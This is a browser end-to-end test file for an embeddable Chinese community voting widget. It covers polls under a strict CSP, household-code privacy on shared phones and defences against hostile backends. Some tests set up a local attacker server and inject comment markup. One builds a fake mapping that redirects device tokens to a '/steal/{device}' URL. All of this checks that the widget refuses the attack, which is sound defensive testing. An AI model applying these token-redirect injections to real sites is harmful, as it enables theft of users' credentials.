// Hostile pages in Debian's Chromium against the real server: a host page
// with a strict CSP and Trusted Types, a comment on a host page that points
// a widget at an attacker's server, and a phone shared by two households.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import http from 'node:http';
import { readFileSync } from 'node:fs';
import { startServer, launch, phone, widget, embedPage, admin, shot, freePort } from './lib.mjs';

const STRICT_CSP = "default-src 'self'; script-src 'self' 'wasm-unsafe-eval'; style-src 'self'; connect-src 'self'; require-trusted-types-for 'script'";

let server;
let browser;
let evil;
const stolen = [];
before(async () => {
  server = await startServer();
  browser = await launch();
  // The attacker's server: records every request (and answers CORS, so the
  // widget would talk to it as to any backend).
  const port = await freePort();
  evil = http.createServer((req, res) => {
    stolen.push({ url: req.url, headers: req.headers });
    res.writeHead(req.method === 'OPTIONS' ? 204 : 404, {
      'access-control-allow-origin': '*',
      'access-control-allow-headers': '*',
      'access-control-allow-methods': '*',
      'content-type': 'application/problem+json',
    });
    res.end(req.method === 'OPTIONS' ? '' : '{"type":"/problems/not-found","title":"x","status":404,"detail":"x"}');
  });
  await new Promise((r) => evil.listen(port, '127.0.0.1', r));
  evil.base = `http://127.0.0.1:${port}`;
});
after(async () => {
  await browser?.close();
  server?.stop();
  evil?.close();
});

/** A page on the server's origin served with `csp`, collecting violations. */
async function strictPage(page, html) {
  const url = `${server.base}/__e2e/strict.html`;
  const body = `<!doctype html><html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width, initial-scale=1">
    </head><body>${html}
    <script type="module" src="/tongxin/tongxin.js"></script></body></html>`;
  await page.route(url, (route) => route.fulfill({
    contentType: 'text/html; charset=utf-8', body, headers: { 'content-security-policy': STRICT_CSP },
  }));
  await page.addInitScript(() => {
    window.__violations = [];
    document.addEventListener('securitypolicyviolation', (e) => {
      window.__violations.push(`${e.violatedDirective} ${e.blockedURI} ${e.sample}`);
    });
  });
  await page.goto(url);
}

test('strict CSP and Trusted Types: poll, convention and board work with no violation', async () => {
  const errors = [];
  const { context, page } = await phone(browser, errors);
  await strictPage(page, `
    <div data-tongxin="poll" data-id="3"></div>
    <div data-tongxin="convention" data-id="1"></div>
    <div data-tongxin="proposals" data-scope="3"></div>`);
  const poll = widget(page, 3);
  await poll.getByRole('radio').first().check();
  await poll.getByRole('button', { name: '投票', exact: true }).click();
  await poll.getByText('您已投票，谢谢参与！').waitFor();
  const conv = widget(page, 1, 'convention');
  await conv.getByRole('progressbar').waitFor();
  await conv.getByText('第 1 条').waitFor();
  const board = page.locator('[data-tongxin="proposals"]');
  await board.getByRole('heading').first().waitFor();
  await shot(page, 'strict-csp');
  const violations = await page.evaluate(() => window.__violations);
  assert.deepEqual(violations, [], 'no CSP or Trusted Types violation');
  assert.deepEqual(errors.filter((e) => !/favicon/.test(e)), []);
  await context.close();
});

test('a hostile data-api gets a fresh token, never the resident\'s', async () => {
  const errors = [];
  const { context, page } = await phone(browser, errors);
  const sentToReal = new Set();
  page.on('request', (r) => {
    if (r.url().startsWith(`${server.base}/api/`)) {
      const d = r.headers()['x-tongxin-device'];
      if (d) sentToReal.add(d);
    }
  });
  stolen.length = 0;
  // The resident's real poll, and below it a "comment" the host's sanitiser kept.
  await embedPage(page, server.base, `
    <div data-tongxin="poll" data-id="3" data-api="${server.base}/api"></div>
    <div class="comment"><div data-tongxin="poll" data-id="3" data-api="${evil.base}/api"></div></div>`);
  const real = page.locator(`[data-tongxin="poll"][data-api="${server.base}/api"]`);
  await real.getByRole('radio').first().check();
  await real.getByRole('button', { name: '投票', exact: true }).click();
  await real.getByText('您已投票，谢谢参与！').waitFor();
  // Let the hostile widget make its calls.
  for (let i = 0; i < 50 && !stolen.some((s) => s.headers['x-tongxin-device']); i++) await page.waitForTimeout(100);
  const tokensAtEvil = new Set(stolen.map((s) => s.headers['x-tongxin-device']).filter(Boolean));
  assert.ok(sentToReal.size === 1, `one token for the real backend: ${[...sentToReal]}`);
  assert.ok(tokensAtEvil.size >= 1, 'the hostile widget did call its server (the test sees it)');
  for (const t of tokensAtEvil) assert.ok(!sentToReal.has(t), 'the resident\'s token never reached the attacker');
  await context.close();
});

test('data-backends on the script tag: a widget naming another backend is not drawn at all', async () => {
  const errors = [];
  const { context, page } = await phone(browser, errors);
  stolen.length = 0;
  const url = `${server.base}/__e2e/pinned.html`;
  const body = `<!doctype html><html><head><meta charset="utf-8"><link rel="icon" href="data:,"></head><body>
    <div data-tongxin="poll" data-id="3"></div>
    <div data-tongxin="poll" data-id="3" data-api="${evil.base}/api" id="hostile"></div>
    <tongxin-poll poll-id="3" api="${evil.base}/api" id="hostile-element"></tongxin-poll>
    <script type="module" src="/tongxin/tongxin.js" data-backends="${server.base}"></script></body></html>`;
  await page.route(url, (route) => route.fulfill({ contentType: 'text/html; charset=utf-8', body }));
  await page.goto(url);
  await page.locator('[data-tongxin="poll"]:not(#hostile)').getByRole('radio').first().waitFor();
  await page.waitForTimeout(500);
  assert.equal(await page.locator('#hostile').getAttribute('data-tongxin-refused'), 'backend');
  assert.equal(await page.locator('#hostile-element').getAttribute('data-tongxin-refused'), 'backend');
  assert.equal(stolen.length, 0, 'no request reached the other origin');
  assert.ok(errors.some((e) => /does not allow/.test(e)), 'the developer is told why');
  await context.close();
});

test('data-backends holds for mappings too: a comment with a selector-list backend or a data-backends tag of its own, an inline mapping and mount() never reach another origin', async () => {
  const errors = [];
  const { context, page } = await phone(browser, errors);
  stolen.length = 0;
  const toEvil = [];
  page.on('request', (r) => { if (r.url().startsWith(evil.base)) toEvil.push(r.url()); });
  // A mapping that looks like the real API but sends the device token elsewhere.
  const mapping = JSON.parse(readFileSync('crates/tongxin-core/src/mapping/reference.json', 'utf8'));
  mapping.base = `${server.base}/api`;
  for (const op of Object.values(mapping.operations)) if (op?.url) op.url = `${evil.base}/steal/{device}${op.url}`;
  const text = JSON.stringify(mapping).replaceAll('<', '\\u003c');
  const url = `${server.base}/__e2e/pinned-mapping.html`;
  const body = `<!doctype html><html><head><meta charset="utf-8"><link rel="icon" href="data:,"></head><body>
    <div data-tongxin="poll" data-id="3" id="real"></div>
    <div class="comment">
      <div data-tongxin="poll" data-id="3" data-backend="#nothing, .comment pre" id="selector-list"></div>
      <pre>${text}</pre>
      <script type="text/plain" data-backends="${evil.base} ${server.base}"></script>
      <div data-tongxin="poll" data-id="3" data-api="${evil.base}/api" id="widened"></div>
    </div>
    <script type="application/json" id="elsewhere">${text}</script>
    <div data-tongxin="poll" data-id="3" data-backend="#elsewhere" id="by-id"></div>
    <div id="mounted"></div>
    <script type="module" src="/tongxin/tongxin.js" data-backends="${server.base}"></script></body></html>`;
  await page.route(url, (route) => route.fulfill({ contentType: 'text/html; charset=utf-8', body }));
  await page.goto(url);
  await page.locator('#real').getByRole('radio').first().waitFor();
  assert.equal(await page.locator('#selector-list').getAttribute('data-tongxin-refused'), 'backend');
  assert.equal(await page.locator('#by-id').getAttribute('data-tongxin-refused'), 'backend');
  // An inert tag of the comment's own cannot widen the pin.
  assert.equal(await page.locator('#widened').getAttribute('data-tongxin-refused'), 'backend');
  // The host page's own script mounts with the mapping object: the client refuses every request.
  const mounted = await page.evaluate(async (m) => {
    const { mount } = await import('/tongxin/tongxin.js');
    await mount(document.getElementById('mounted'), { widget: 'poll', id: '3', backend: m });
    await new Promise((r) => setTimeout(r, 1500));
    return document.getElementById('mounted').shadowRoot?.textContent ?? '';
  }, mapping);
  assert.ok(mounted.length > 0, 'the mounted widget shows its error');
  await page.waitForTimeout(500);
  assert.deepEqual(toEvil, [], 'no request left for the other origin');
  assert.equal(stolen.length, 0, 'the other origin saw nothing');
  assert.ok(errors.some((e) => /data-backend must be a #id/.test(e)), `the loader says why: ${errors.join(' | ')}`);
  assert.ok(errors.some((e) => /does not allow \(data-backends\); nothing was sent/.test(e)), `the client says why: ${errors.join(' | ')}`);
  await context.close();
});

test('a shared phone: the household code is not kept after a successful vote', async () => {
  const errors = [];
  const { context, page } = await phone(browser, errors);
  const poll = await admin(server.base, 'POST', '/polls', {
    scope_id: 3, title: '楼道灯更换方案', kind: { type: 'single' }, options: ['声控灯', '感应灯'], eligibility: 'code',
  });
  const { codes } = await admin(server.base, 'POST', '/codes', { target: 'poll', target_id: poll.id, count: 2 });
  await embedPage(page, server.base, `<div data-tongxin="poll" data-id="${poll.id}"></div>`);
  const w = widget(page, poll.id);
  const code = w.getByLabel('入户码');
  await code.fill(codes[0]);
  await w.getByRole('radio').first().check();
  await w.getByRole('button', { name: '投票', exact: true }).click();
  await w.getByText('您已投票，谢谢参与！').waitFor();
  const kept = await page.evaluate((c) => Object.keys(localStorage).filter((k) => (localStorage.getItem(k) || '').includes(c)), codes[0]);
  assert.deepEqual(kept, [], 'the code is nowhere in localStorage');
  // The next person opens the page on the same phone: no code is filled in,
  // and voting needs their own.
  await page.reload();
  const again = widget(page, poll.id);
  await again.getByRole('radio').first().check();
  assert.equal(await again.getByLabel('入户码').inputValue(), '');
  await again.getByRole('button', { name: '投票', exact: true }).click();
  await again.getByText('请输入入户码').or(again.getByRole('alert')).first().waitFor();
  await again.getByLabel('入户码').fill(codes[1]);
  await again.getByRole('button', { name: '投票', exact: true }).click();
  await again.getByText('您已投票，谢谢参与！').waitFor();
  const r = await (await fetch(`${server.base}/api/v1/polls/${poll.id}/results`, { headers: { authorization: 'Bearer e2e-admin-token' } })).json();
  assert.equal(r.ballots, 2, 'two households, two ballots');
  await context.close();
});

test('a proposal whose support needs a household code asks for one (zh light, en dark), and it counts once', async () => {
  for (const [lang, dark] of [['zh', false], ['en', true]]) {
    const errors = [];
    const { context, page } = await phone(browser, errors);
    const p = await (await fetch(`${server.base}/api/v1/proposals`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', 'x-tongxin-device': `proposer-device-${lang}-0000` },
      body: JSON.stringify({ scope_id: 3, title: '加装座椅', problem: '老人没有地方坐', plan: '十张座椅', estimated_cost_fen: 500000, proposer_name: '孙雨萌' }),
    })).json();
    await admin(server.base, 'PATCH', `/proposals/${p.id}`, { eligibility: { support: 'code' } });
    const { codes } = await admin(server.base, 'POST', '/codes', { target: 'proposal', target_id: p.id, count: 1 });
    await embedPage(page, server.base, `<div data-tongxin="proposal" data-id="${p.id}"${lang === 'en' ? ' data-lang="en"' : ''}${dark ? ' data-theme="dark"' : ''}></div>`);
    const w = page.locator('[data-tongxin="proposal"]');
    const code = w.getByLabel(lang === 'en' ? 'Household code' : '入户码');
    await code.fill(codes[0]);
    await w.locator('.tx-sticky-bar button').click();
    await w.locator('.tx-sticky-bar').getByText(lang === 'en' ? '1 of 20 supports' : /1/).waitFor();
    const d = await (await fetch(`${server.base}/api/v1/proposals/${p.id}`)).json();
    assert.equal(d.proposal.supports, 1);
    assert.ok(await page.evaluate(() => document.documentElement.scrollWidth <= window.innerWidth), 'no horizontal scroll at 360 px');
    await shot(page, `proposal-code-${lang}`);
    assert.deepEqual(errors, []);
    await context.close();
  }
});
